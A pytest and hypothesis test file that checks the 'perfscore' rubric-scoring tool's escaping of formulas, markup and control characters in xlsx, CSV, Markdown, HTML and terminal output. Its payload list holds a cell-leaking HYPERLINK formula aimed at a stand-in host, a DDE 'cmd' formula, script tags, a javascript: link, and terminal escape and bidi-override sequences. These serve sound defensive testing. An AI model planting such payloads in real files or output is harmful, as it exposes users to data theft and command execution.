"""Output safety: no text from a rubric, its data or a report is ever a formula, markup or a terminal command.

Every writer goes through perfscore.render.escape; these tests feed hostile text
(formula triggers, control characters, bidi overrides, HTML, Markdown syntax,
line breaks) through every output: xlsx (score table, blank table, audit), CSV
(``score --format csv``, ``template --format csv``), Markdown, HTML, notebooks,
the terminal table, diagnostics and audit text.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Iterator
from contextlib import contextmanager
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import tomllib
from hypothesis import HealthCheck, given, reject, settings
from hypothesis import strategies as st

import perfscore
from perfscore.audit import reported_from_mapping, template
from perfscore.cli import main, render_csv, render_table
from perfscore.render import score_table, score_table_for_rubric, to_html, to_markdown, write_xlsx
from perfscore.render.audit import audit_markdown, audit_text, write_audit_xlsx
from perfscore.render.escape import csv_field, html, markdown, terminal, visible, xlsx_put
from perfscore.render.table import Row, Table

CASES = settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck), database=None)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BIDI = {chr(c) for c in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))}


def shown(text: str, keep: str) -> str:
    """The test's own statement of 'controls made visible' (by Unicode category, not the module's ranges)."""
    out = []
    for c in text:
        unsafe = unicodedata.category(c) == "Cc" or c in BIDI or c in "\u2028\u2029"
        out.append(f"\\u{ord(c):04x}" if unsafe and c not in keep else c)
    return "".join(out)


def cell_text(text: str) -> str:
    """What a spreadsheet cell holds for ``text``: line breaks as LF, other controls shown."""
    return shown(text.replace("\r\n", "\n").replace("\r", "\n"), "\n\t")


def unsafe_for_terminal(text: str) -> list[str]:
    """Characters a terminal would act on: controls but LF and tab (CR only before LF), and bidi controls."""
    bad = [c for c in text if c in BIDI or c in "\u2028\u2029" or unicodedata.category(c) == "Cc" and c not in "\n\t\r"]
    return bad + re.findall(r"\r(?!\n)", text)


# ---------------------------------------------------------------- hostile text

#: Formula payloads as seen in the wild, and characters that have a meaning somewhere.
PAYLOADS = ['=HYPERLINK("http://x.test/?leak="&I4,"打开附件")', "=1+2", "+cmd|' /C calc'!A0", "-3", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1", "＝1+1", "#N/A", "<script>alert(1)</script>", "**粗**", "[点我](javascript:alert(1))",
            "a|b", "\x1b[31m红\x1b[0m", "\x1b]0;title\x07", "\u202e反转\u202c", "\u2066隔离\u2069", "\x9b2J",
            "\x7f", "\x00", "行一\r行二", "行一\r\n行二", "\u2028", "＝全角", "朔州市卫健委（单位）"]  # fmt: skip
#: Anything a rubric string may hold (it may not hold its quote or a line break).
ALPHABET = st.sampled_from(list("=+-@#|<>&*_[]`~\\'%０１＝－\t\x00\x01\x07\x0b\x0c\x1b\x1f\x7f\x85\x9b\u061c\u200e\u202a\u202e"
                                "\u2066\u2069\u2028\ufeff\u3000指标单位分ab12 ."))  # fmt: skip
rubric_texts = st.one_of(
    st.sampled_from([p for p in PAYLOADS if '"' not in p and p == p.strip()]),  # names are read stripped
    st.builds(lambda head, tail: f"{head}甲{tail}乙", st.sampled_from(["", *TRIGGERS[:4], "＝", "#"]),
              st.text(ALPHABET, max_size=12)),
)
#: Data and report text may also hold quotes and line breaks.
free_texts = st.one_of(st.sampled_from(PAYLOADS), rubric_texts, st.text(ALPHABET | st.sampled_from(['"', "\r", "\n"]), max_size=12))

RUBRIC = """评价 "{0}"
总分 10
评价等级 {{
  "{1}" ≥ 5
  "{2}" < 5
}}
分组 A "{3}" 10 {{
  指标 A1 "{4}" 5 {{
    解释 "{5}"
    目标 "{6}"
    评分标准 "{7}"
    达标
  }}
  指标 A2 "{8}" 3 {{
    定性 {{
      "{9}"：100%
      "{10}"：0%
    }}
  }}
  指标 A3 "{11}" 2 {{
    清单 {{
      "{12}" 50% "{13}"
      "{14}" 50%
    }}
  }}
}}
"""


@st.composite
def hostile(draw: st.DrawFn) -> tuple[perfscore.Rubric, perfscore.Result, perfscore.AuditReport]:
    """A rubric whose every text is hostile, data with a hostile override reason, a report of hostile figures."""
    texts = [draw(rubric_texts) for _ in range(15)]
    for pair in ((1, 2), (9, 10), (12, 14)):  # names that must differ
        if texts[pair[0]].strip() == texts[pair[1]].strip():
            texts[pair[1]] += "乙"
    try:
        rubric = perfscore.compile(RUBRIC.format(*texts))
    except perfscore.RubricError:  # e.g. a name the checker refuses; the writers never see it
        reject()
    data = {"A1": True, "A2": texts[9], "A3": {texts[12]: True, texts[14]: False},
            "overrides": {"A1": {"score": 4, "reason": draw(free_texts) + "理由"}}}  # fmt: skip
    result = rubric.evaluate(data)
    figures = draw(st.lists(free_texts, min_size=6, max_size=6))
    reported = reported_from_mapping({"title": figures[0], "total": figures[1], "grade": figures[2],
                                      "where": figures[3], "A1": {"score": figures[4], "where": figures[5]},
                                      "A2": {"actual": texts[10], "score": "-1"}})  # fmt: skip
    return rubric, result, perfscore.audit(rubric, data, reported)


# ---------------------------------------------------------------- spreadsheets


@contextmanager
def captured_workbooks() -> Iterator[list[Any]]:
    """Every workbook a writer saves, as it was in memory at the moment of saving."""
    books: list[Any] = []
    save = openpyxl.Workbook.save

    def keep(self: Any, filename: str) -> None:
        books.append(self)
        save(self, filename)

    openpyxl.Workbook.save = keep
    try:
        yield books
    finally:
        openpyxl.Workbook.save = save


def cells(book: Any) -> list[Any]:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_no_formula(path: Path, written: Any) -> None:
    for book in (written, openpyxl.load_workbook(path)):
        for cell in cells(book):
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            assert cell.data_type in ("s", "n"), (cell.coordinate, cell.data_type, cell.value)
            if cell.data_type == "s":
                assert not unsafe_for_terminal(cell.value), (cell.coordinate, cell.value)
            if cell.data_type == "s" and cell.value.startswith((*TRIGGERS, "#")):
                assert cell.quotePrefix, (cell.coordinate, cell.value)


@CASES
@given(hostile())
def test_no_xlsx_cell_is_ever_a_formula(tmp_path_factory: pytest.TempPathFactory,
                                        case: tuple[perfscore.Rubric, perfscore.Result, perfscore.AuditReport]) -> None:  # fmt: skip
    rubric, result, report = case
    folder = tmp_path_factory.mktemp("xlsx")
    writers = [(write_xlsx, result), (write_xlsx, score_table_for_rubric(rubric)), (write_audit_xlsx, report)]
    for k, (writer, value) in enumerate(writers):
        path = folder / f"{k}.xlsx"
        with captured_workbooks() as books:
            writer(value, path)  # type: ignore[operator]
        (book,) = books
        assert_no_formula(path, book)
    title = openpyxl.load_workbook(folder / "0.xlsx").active["A1"].value
    assert title == cell_text(rubric.title or "")  # the text itself survives, only controls shown


@CASES
@given(hostile())
def test_no_csv_text_field_starts_a_formula(case: tuple[perfscore.Rubric, perfscore.Result, perfscore.AuditReport]) -> None:
    rubric, result, _ = case
    number = re.compile(r"-?\d+(\.\d+)?(E[+-]\d+)?")
    rows = list(csv.reader(io.StringIO(render_csv(result))))
    numeric = {"level", "weight", "actual", "score", "rate"}
    for row in rows[1:]:
        for column, field in zip(rows[0], row, strict=True):
            if column in numeric and field:
                assert number.fullmatch(field), (column, field)  # a real number stays a number, sign and all
            else:
                assert not field.startswith(TRIGGERS), (column, field)
                assert not unsafe_for_terminal(field.replace("\n", "")), (column, field)
    names = {row[0]: row[2] for row in rows[1:]}
    assert names["A1"].removeprefix("'") == cell_text(result["A1"].name)
    blank = list(csv.reader(io.StringIO(template(rubric, "csv"))))
    for row in blank[1:]:
        assert not any(field.startswith(TRIGGERS) for field in row), row


def test_a_text_cell_keeps_its_text_and_a_number_stays_a_number(tmp_path: Path) -> None:
    """Negative numbers: a real -3 is a number cell, the text "-3" a text cell; both survive save and reload."""
    row = Row(code="A1", level1="=1+2", level2="#N/A", level3="-3", weight=Decimal(-3), definition="@x",
              target="-3", criteria="+1", actual="=A1", score=Decimal("-2.5"), rate=Decimal("-0.5"))  # fmt: skip
    table = Table(title="=HYPERLINK(\"http://x.test\",\"打开附件\")", rows=(row,), total_weight=Decimal(-3),
                  total_score=Decimal("-2.5"), grade="=差", places=2)  # fmt: skip
    write_xlsx(table, tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    got = {c: (sheet[c].data_type, sheet[c].value) for c in ("A1", "A3", "B3", "C3", "D3", "E3", "F3", "I3", "J3")}
    assert got == {"A1": ("s", '=HYPERLINK("http://x.test","打开附件")'), "A3": ("s", "=1+2"), "B3": ("s", "#N/A"),
                   "C3": ("s", "-3"), "D3": ("n", -3), "E3": ("s", "@x"), "F3": ("s", "-3"),
                   "I3": ("n", Decimal("-2.5")), "J3": ("n", Decimal("-0.5"))}  # fmt: skip
    assert sheet["B5"].value == "=差" and sheet["B5"].data_type == "s"


def test_xlsx_with_control_characters_is_written_with_them_shown(tmp_path: Path) -> None:
    """openpyxl refuses \\x00-\\x08, \\x0b, \\x0c, \\x0e-\\x1f (IllegalCharacterError); they are written visibly."""
    rubric = perfscore.compile('评价 "标题\x00\x1b[2J"\n总分 10\n指标 A1 "名称\x07\x0b" 10 {\n  目标 "\x1f"\n  达标\n}\n')
    result = rubric.evaluate({"A1": True, "overrides": {"A1": {"score": 5, "reason": "理由\x08"}}})
    write_xlsx(result, tmp_path / "score.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "score.xlsx").active
    assert sheet["A1"].value == "标题\\u0000\\u001b[2J"
    assert sheet["A3"].value == "A1 名称\\u0007\\u000b"  # a top-level indicator is its own 一级指标
    assert sheet["F3"].value == "\\u001f"
    reported = reported_from_mapping({"title": "报告\x01", "A1": {"score": "7", "where": "表\x03"}})
    write_audit_xlsx(perfscore.audit(rubric, {"A1": True}, reported), tmp_path / "audit.xlsx")
    values = [c.value for c in cells(openpyxl.load_workbook(tmp_path / "audit.xlsx"))]
    shown = [v for v in values if v in ("名称\\u0007\\u000b", "表\\u0003")]
    assert list(dict.fromkeys(shown)) == ["名称\\u0007\\u000b", "表\\u0003"]  # (two findings name A1)


def test_csv_fields() -> None:
    assert [csv_field(v) for v in ("=1+1", "-3", "\t=1", "＝1", "@A", "#N/A", "正常", "a=b", "", None)] == \
        ["'=1+1", "'-3", "'\t=1", "'＝1", "'@A", "#N/A", "正常", "a=b", "", ""]  # fmt: skip
    assert [csv_field(v) for v in (Decimal("-3"), -3, Decimal("1E+2"))] == [Decimal("-3"), -3, Decimal("1E+2")]
    assert csv_field("\r=1") == "'\n=1"  # a lone CR is a line break, and a trigger
    assert csv_field(True) == "True"


def test_score_csv_on_the_command_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "r.perf").write_text('评价 "=cmd|\' /C calc\'!A0"\n总分 10\n指标 A1 "-3" 10 {\n  目标 "x"\n  达标\n}\n', "utf-8")
    (tmp_path / "d.toml").write_text('A1 = true\n[overrides.A1]\nscore = 4\nreason = "@SUM(1)"\n', "utf-8")
    assert main(["score", str(tmp_path / "r.perf"), str(tmp_path / "d.toml"), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    # The override 4 is shown as the rubric rounds (2 places), as every score is.
    assert rows[1] == ["A1", "1", "'-3", "10", "", "4.00", "0.40", "'@SUM(1)"]
    assert rows[2] == ["total", "0", "'=cmd|' /C calc'!A0", "10", "", "4.00", "0.40", ""]
    assert main(["template", str(tmp_path / "r.perf"), "--format", "csv"]) == 0
    assert list(csv.reader(io.StringIO(capsys.readouterr().out)))[1][:2] == ["A1", "'-3"]


def test_template_toml_stays_toml_with_controls_in_names() -> None:
    """TOML forbids control characters in comments; the name in each comment is shown, not copied raw."""
    rubric = perfscore.compile('评价 "题\x1b"\n总分 10\n指标 A1 "名\x07\u202e" 10 {\n  目标 "x"\n  达标\n}\n')
    text = template(rubric)
    assert tomllib.loads(text)["A1"]["score"] == ""
    assert '["A1"]  # 名\\u0007\\u202e，权重 10 分' in text.splitlines()


# ---------------------------------------------------------------- Markdown and HTML


@CASES
@given(hostile())
def test_markdown_and_html_never_carry_markup_or_controls(case: tuple[perfscore.Rubric, perfscore.Result,
                                                                      perfscore.AuditReport]) -> None:  # fmt: skip
    rubric, result, report = case
    for text, columns in ((to_markdown(score_table(result)), 10), (to_markdown(score_table_for_rubric(rubric)), 10),
                          (audit_markdown(report), 9)):  # fmt: skip
        assert not unsafe_for_terminal(text)
        assert "<" not in text.replace("<br>", "")  # no tag but the line breaks the writer puts in cells
        for line in text.splitlines():
            if line.startswith("|"):  # every row keeps its columns: no cell splits a row or adds a column
                assert len(re.findall(r"(?<!\\)\|", line)) == columns + 1, line
    for page in (to_html(score_table(result)), result._repr_html_(), rubric._repr_html_()):
        assert not unsafe_for_terminal(page.replace("\n", ""))
        tags = set(re.findall(r"<\s*/?\s*([A-Za-z][A-Za-z0-9]*)", page))
        assert tags <= {"html", "head", "meta", "title", "style", "body", "h1", "table", "thead", "tbody", "tfoot", "tr",
                        "th", "td", "p", "strong", "div", "caption", "span", "code"}, tags  # fmt: skip
        assert "<script" not in page.lower()


def test_markdown_escaping() -> None:
    assert markdown("<script>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert markdown("行一\r行二\r\n行三\n行四") == "行一<br>行二<br>行三<br>行四"  # a lone CR never splits a row
    assert markdown("a|b *c* _d_ [e](f) `g` ~h~ \\ &amp;") == r"a\|b \*c\* \_d\_ \[e\](f) \`g\` \~h\~ \\ &amp;amp;"
    assert markdown("\x1b[31m\u202e") == r"\\u001b\[31m\\u202e"
    assert markdown("（单位）≥95% 1-2 家 A+B") == "（单位）≥95% 1-2 家 A+B"  # what the official tables hold is untouched


def test_a_lone_cr_in_a_name_keeps_the_markdown_row_whole() -> None:
    row = Row(code="A1", level1="甲\r乙", level2="", level3="丙", weight=Decimal(1), definition="", target="",
              criteria="", actual="", score=None, rate=None)  # fmt: skip
    lines = to_markdown(Table(title="", rows=(row,), total_weight=Decimal(1), total_score=None, grade=None,
                              places=2)).splitlines()  # fmt: skip
    assert lines[2] == "| 甲<br>乙 |  | 丙 | 1 |  |  |  |  |  |  |"


def test_html_escaping() -> None:
    assert html("<b onclick=\"x\">'&") == "&lt;b onclick=&quot;x&quot;&gt;&#x27;&amp;"
    assert html("\x1b[31m\u202e行一\r\n行二") == "\\u001b[31m\\u202e行一\n行二"


# ---------------------------------------------------------------- terminal


def test_terminal_shows_controls_and_keeps_chinese() -> None:
    assert terminal("\x1b[31m红\x1b[0m") == "\\u001b[31m红\\u001b[0m"
    assert terminal("\x9b2J\x7f\x00") == "\\u009b2J\\u007f\\u0000"
    assert terminal("\u202e\u202a\u2066\u2069\u200f") == "\\u202e\\u202a\\u2066\\u2069\\u200f"
    assert terminal("行一\n\t行二\r\n覆盖\r") == "行一\n\t行二\r\n覆盖\\u000d"  # LF, tab and CRLF kept, a lone CR not
    assert terminal("朔州市（单位）ＡＢＣ１２３　全角「」") == "朔州市（单位）ＡＢＣ１２３　全角「」"
    assert visible("a\tb\nc\rd") == "a\\u0009b\\u000ac\\u000dd"


@settings(max_examples=300, deadline=None, database=None)
@given(st.text())
def test_terminal_is_safe_idempotent_and_keeps_json(text: str) -> None:
    safe = terminal(text)
    assert not unsafe_for_terminal(safe)
    assert terminal(safe) == safe
    assert safe == "\r\n".join(shown(part, "\n\t") for part in text.split("\r\n"))
    document = json.dumps({"name": text}, ensure_ascii=False, indent=2)
    assert json.loads(terminal(document)) == {"name": text}  # JSON piped to a terminal still parses, same value
    inline = visible(text)
    assert not unsafe_for_terminal(inline) and "\n" not in inline and "\t" not in inline


EVIL = '评价 "标题\x1b]0;pwned\x07"\n总分 10\n指标 A1 "名\x1b[2J\u202e称\x9b" 10 {\n  目标 "x"\n  达标\n}\n'


def test_score_table_on_the_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "r.perf").write_text(EVIL, "utf-8")
    (tmp_path / "d.toml").write_text('A1 = true\n[overrides.A1]\nscore = 4\nreason = "\\u001b[2J"\n', "utf-8")
    assert main(["score", str(tmp_path / "r.perf"), str(tmp_path / "d.toml")]) == 0
    out = capsys.readouterr().out
    assert not unsafe_for_terminal(out)
    assert out.splitlines()[2] == "A1 名\\u001b[2J\\u202e称\\u009b    10          4.00 *  40.00%"


def test_render_table_keeps_each_row_on_one_line() -> None:
    result = perfscore.compile('总分 10\n指标 A1 "名\x0b称\x85" 10 {\n  目标 "x"\n  达标\n}\n').evaluate({"A1": True})
    lines = render_table(result).splitlines()
    assert lines[2] == "A1 名\\u000b称\\u0085    10          10.00  100.00%"  # columns aligned on the shown text
    assert len(lines) == 4


def test_diagnostics_on_the_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                     monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    """The source line quoted under a diagnostic shows its controls; only our own colour codes remain."""
    (tmp_path / "bad.perf").write_text('总分 10\n指标 A1 "名\x1b[2J\x07" 20 {\n  目标 "x"\n  达标\n}\n', "utf-8")
    monkeypatch.setenv("NO_COLOR", "1")
    assert main(["check", str(tmp_path / "bad.perf")]) == 1
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert out.splitlines()[1] == '    指标 A1 "名\\u001b[2J\\u0007" 20 {'


def test_audit_text_on_the_terminal() -> None:
    rubric = perfscore.compile(EVIL)
    reported = reported_from_mapping({"A1": {"score": "9", "where": "表\u202e1\x1b[2J"}})
    text = audit_text(perfscore.audit(rubric, {"A1": True}, reported))
    assert not unsafe_for_terminal(text)
    assert text.splitlines()[0] == "A1 名\\u001b[2J\\u202e称\\u009b"
    assert "公布值 9（表\\u202e1\\u001b[2J）" in text


def test_xlsx_put_sets_types() -> None:
    sheet = openpyxl.Workbook().active
    values = ["=1", "#DIV/0!", "-3", "文本", Decimal("-3"), 7, None, True]
    for k, value in enumerate(values, 1):
        xlsx_put(sheet.cell(1, k), value)
    assert [sheet.cell(1, k).data_type for k in range(1, 9)] == ["s", "s", "s", "s", "n", "n", "n", "s"]
    assert [sheet.cell(1, k).quotePrefix for k in range(1, 5)] == [True, True, True, False]


def test_a_text_longer_than_a_cell_shows_the_cut(tmp_path: Path) -> None:
    sheet = openpyxl.Workbook().active
    xlsx_put(sheet["A1"], "\x1b" + "长" * 40_000)
    assert len(sheet["A1"].value) == 32_767
    assert sheet["A1"].value.startswith("\\u001b长") and sheet["A1"].value.endswith("长…")


def test_every_command_prints_rubric_text_harmlessly(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """explain, test, check, score and the error lines: an ESC or a bidi override never reaches the terminal raw."""
    rubric = tmp_path / "r.perf"
    rubric.write_text('总分 3\n指标 A1 "甲\x1b[31m\u202e" 3 {\n  达标\n}\n', "utf-8")
    data = tmp_path / "d.toml"
    data.write_text("A1 = true\n", "utf-8")
    (tmp_path / "r.tests.toml").write_text('[[case]]\nname = "x\\u001b]0;pwned\\u0007"\ndata = "d.toml"\n'
                                           'expect = { A1 = "2" }\n', "utf-8")  # fmt: skip
    for argv in (["explain", str(rubric), str(data)], ["score", str(rubric), str(data)], ["test", str(rubric)],
                 ["explain", str(rubric), str(data), "Z\x1b9"]):  # fmt: skip
        main(argv)
        printed = capsys.readouterr()
        for stream in (printed.out, printed.err):
            assert "\x1b" not in stream and "\u202e" not in stream and "\x07" not in stream, argv
    main(["explain", str(rubric), str(data)])
    assert capsys.readouterr().out == "A1 甲\\u001b[31m\\u202e：达标，得 3 分\n总分 3 / 3\n"


def test_an_effective_weight_is_shown_to_four_places_not_sixty_digits() -> None:
    """After a 折算 leaf is dropped, 3 of 9 remaining points become 3 × 10 / 9 = 3.3333… points."""
    rubric = perfscore.compile("总分 10\n" + "".join(f"指标 A{k} 甲{k} 3 {{\n  达标\n}}\n" for k in (1, 2, 3))
                               + "指标 A4 丁 1 {\n  达标\n  不适用时 折算\n}\n", "r.perf")  # fmt: skip
    result = rubric.evaluate({"A1": True, "A2": True, "A3": True, "not_applicable": ["A4"]})
    assert str(result["A1"].weight).startswith("3." + "3" * 50)  # exact in the result (60 digits)…
    weights = [row.cells(2)[3] for row in score_table(result).rows if row.code == "A1"]
    assert weights == ["3.3333"]  # …and brief where people read it
    assert "3.3333" in render_table(result) and "3.33333" not in render_table(result)
    assert ">3.3333<" in result._repr_html_()
